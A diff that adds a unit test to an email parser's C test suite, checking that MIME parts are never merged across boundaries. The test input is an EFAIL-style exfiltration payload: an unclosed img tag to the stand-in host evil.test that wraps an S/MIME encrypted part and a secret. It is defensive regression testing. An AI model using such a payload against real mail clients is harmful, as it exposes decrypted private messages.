@@ -196,6 +196,33 @@ static void a_nested_message_is_shown_and_attached(void **state)
 	document_free(d);
 }
 
+/*
+ * What encrypted messages were stolen by: HTML around them that was shown as one piece with them.
+ * Parts stay apart, and nothing encrypted is opened.
+ */
+static void parts_are_never_one_piece_with_their_neighbours(void **state)
+{
+	struct document *d = parse(HEAD "Content-Type: multipart/mixed; boundary=X\n\n"
+	    "<p>preamble\n--X\nContent-Type: text/html\n\n<img src=\"http://evil.test/\n"
+	    "--X\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=s.p7m\n"
+	    "Content-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\n"
+	    "--X\nContent-Type: text/html\n\n<b>secret</b>\n"
+	    "--X\nContent-Type: text/html\n\n\">\n--X--\nepilogue\n");
+
+	(void)state;
+	assert_int_equal(d->bodies->len, 3);
+	for (unsigned int i = 0; i < 3; i++) {
+		assert_int_equal(body(d, i)->kind, DOCUMENT_HTML);
+		assert_true((strstr(body(d, i)->text->str, "secret") != NULL) == (i == 1));
+		assert_true((strstr(body(d, i)->text->str, "evil") != NULL) == (i == 0));
+		assert_null(strstr(body(d, i)->text->str, "preamble"));
+		assert_null(strstr(body(d, i)->text->str, "epilogue"));
+	}
+	assert_int_equal(d->files->len, 1);
+	assert_string_equal(file(d, 0)->name, "s.p7m");
+	document_free(d);
+}
+
 static void a_message_without_text_says_so(void **state)
 {
 	struct document *d = parse(HEAD "\n");
@@ -328,6 +355,7 @@ int main(void)
 		cmocka_unit_test(names_of_files_are_safe_and_distinct),
 		cmocka_unit_test(a_uuencoded_file_in_the_text_becomes_a_file),
 		cmocka_unit_test(a_nested_message_is_shown_and_attached),
+		cmocka_unit_test(parts_are_never_one_piece_with_their_neighbours),
 		cmocka_unit_test(a_message_without_text_says_so),
 		cmocka_unit_test(text_without_any_header_field_is_shown),
 		cmocka_unit_test(the_subject_given_replaces_that_of_the_message),
